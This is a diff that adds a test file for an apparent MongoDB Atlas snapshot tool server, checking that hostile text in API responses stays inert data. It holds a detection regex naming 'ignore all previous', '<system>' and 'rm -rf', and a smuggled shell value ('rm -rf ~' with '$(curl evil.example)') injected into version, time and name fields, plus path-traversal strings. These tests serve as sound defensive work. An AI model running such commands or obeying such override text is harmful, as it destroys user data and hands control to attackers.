@@ -1,0 +1,132 @@
+import { describe, expect, onTestFinished, test } from "vitest";
+import { HOSTILE_TEXT } from "../../src/simulator/faults/hostile.ts";
+import { SIMULATED } from "../../src/simulator/simulated.ts";
+import { generatedSnapshot } from "../faults/probes.ts";
+import { openStation, type Station } from "../faults/station.ts";
+import type { ToolResult } from "../faults/stdio-server.ts";
+import { CLUSTER } from "../fixtures.ts";
+import { mapObjects, startAlteringProxy } from "./altering-proxy.ts";
+
+const SNAPSHOT = { ...CLUSTER, snapshotId: SIMULATED.downloadedSnapshotId };
+
+/** Controls, line ends, bidirectional, zero-width and tag characters: nothing of the kind may be in any string. */
+const HARMFUL =
+  /[\u0000-\u001f\u007f-\u009f\u00ad\u061c\u180e\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff\ufff9-\ufffb\u{e0000}-\u{e0fff}]/u;
+/** Words of the hostile text; as data they are allowed, as advice never. */
+const INSTRUCTION = /ignore all previous|evil\.example|delete the project|<system>|<\/result>|owned|rm -rf/i;
+
+/** Every string in a value, with the path that leads there. */
+function stringsIn(value: unknown, path = ""): [string, string][] {
+  if (typeof value === "string") return [[path, value]];
+  if (typeof value !== "object" || value === null) return [];
+  return Object.entries(value).flatMap(([name, item]): [string, string][] => [
+    [`${path}/${name} (name)`, name],
+    ...stringsIn(item, `${path}/${name}`),
+  ]);
+}
+
+/** What the server says in its own words: nothing of it may come from Atlas. */
+const OWN_WORDS =
+  /\/(nextStep|hint|retryAfterSeconds|commands\/\d+|needs\/\d+|warnings\/\d+|notes\/\d+|fileName|path)$/;
+
+function expectHarmless(result: ToolResult): void {
+  const text = result.content[0].text;
+  const strings = stringsIn(
+    result.isError ? [text, result.structuredContent] : [JSON.parse(text), result.structuredContent],
+  );
+  expect(strings.filter(([, string]) => HARMFUL.test(string))).toEqual([]);
+  expect(strings.filter(([path, string]) => OWN_WORDS.test(path) && INSTRUCTION.test(string))).toEqual([]);
+}
+
+async function stationOf(options: Parameters<typeof openStation>[0] = {}, atEnd = onTestFinished): Promise<Station> {
+  const station = await openStation(options);
+  atEnd(async () => {
+    expect(await station.close()).toEqual([]);
+  });
+  return station;
+}
+
+/** A save waits for its job, and a request of unknown outcome looks for one: seconds that add up. */
+const LIMIT_MS = 60_000;
+
+describe("hostile text in every string that Atlas sends comes out as harmless data, never as advice", () => {
+  const calls: [string, Record<string, unknown> | "another each time", string[]][] = [
+    ["list_flex_clusters", {}, ["listProjects", "listFlexClusters"]],
+    ["list_flex_clusters", { groupId: CLUSTER.groupId }, ["listFlexClusters"]],
+    ["list_flex_snapshots", CLUSTER, ["listSnapshots"]],
+    ["get_restore_job", { ...CLUSTER, restoreJobId: SIMULATED.restoreJobId }, ["getRestoreJob"]],
+    [
+      "get_restore_job",
+      { ...CLUSTER, restoreJobId: SIMULATED.restoreJobId, envelope: true, waitSeconds: 1 },
+      ["getRestoreJob"],
+    ],
+    ["list_restore_jobs", CLUSTER, ["listRestoreJobs"]],
+    ["request_flex_snapshot_download", SNAPSHOT, ["requestDownload", "listRestoreJobs"]],
+    ["save_flex_snapshot", "another each time", ["getSnapshot", "listRestoreJobs", "requestDownload", "getRestoreJob"]],
+  ];
+
+  test.concurrent.for(calls)(
+    "of %s with %j, when it succeeds and when it fails",
+    { timeout: LIMIT_MS },
+    async (call, { onTestFinished }) => {
+      const [tool, args, operations] = call;
+      const projects = args === "another each time" ? 20 : 0;
+      const { server, simulator } = await stationOf({ simulator: { projects } }, onTestFinished);
+      let number = 0;
+      for (const operation of operations) {
+        for (const status of ["", "401+", "403+", "500+"]) {
+          simulator.clearOrders();
+          simulator.order(`${operation}=${status}hostile`);
+          number += 1;
+          // The job of an even snapshot takes time, so that it is read by itself.
+          const snapshot = { ...generatedSnapshot(number, operation === "getRestoreJob" ? 2 : 1), waitSeconds: 6 };
+          expectHarmless(await server.call(tool, args === "another each time" ? snapshot : args));
+        }
+      }
+      for (const line of server.output.stdout.split("\n").filter(Boolean))
+        expect(
+          stringsIn(JSON.parse(line)).filter(([, string]) => HARMFUL.test(string) && !string.startsWith("{")),
+        ).toEqual([]);
+      expect(server.output.stderr.replaceAll("\n", "")).not.toMatch(HARMFUL);
+    },
+  );
+
+  test("of a token endpoint", async () => {
+    for (const orders of ["token=hostile", "token=403+hostile", "token=500+hostile"]) {
+      const { server } = await stationOf({ simulator: { orders } });
+      expectHarmless(await server.call("list_flex_snapshots", CLUSTER));
+    }
+  });
+});
+
+test("hostile versions and times of a snapshot reach neither its file's name nor its restore commands", async () => {
+  let target = "";
+  const shell = '8.0.16"; rm -rf ~ #$(curl evil.example)`id`';
+  const proxy = await startAlteringProxy(
+    () => target,
+    (_, json) =>
+      mapObjects(json, (object) => ({
+        ...object,
+        ...("mongoDBVersion" in object ? { mongoDBVersion: shell + HOSTILE_TEXT } : {}),
+        ...("finishTime" in object
+          ? { finishTime: `../../evil ${HOSTILE_TEXT}`, startTime: shell, scheduledTime: shell }
+          : {}),
+        ...("instanceName" in object ? { instanceName: `../../${shell}`, projectId: shell } : {}),
+      })),
+  );
+  onTestFinished(proxy.close);
+  const { server, simulator } = await stationOf({ env: { MONGODB_ATLAS_BASE_URL: proxy.baseUrl } });
+  target = simulator.baseUrl;
+  const saved = await server.call("save_flex_snapshot", SNAPSHOT);
+  expect(saved.structuredContent).toMatchObject({
+    state: "complete",
+    fileName: `${CLUSTER.name}-${SIMULATED.downloadedSnapshotId}.tgz`,
+    restore: { kind: "data-directory" },
+  });
+  const { fileName } = saved.structuredContent;
+  const listed = await server.call("list_saved_snapshots", {});
+  const checked = await server.call("verify_saved_snapshot", { fileName });
+  for (const result of [saved, listed, checked]) expectHarmless(result);
+  for (const result of [saved, checked])
+    expect(JSON.stringify(result.structuredContent.restore)).not.toMatch(/evil|curl|rm -rf|`/);
+});
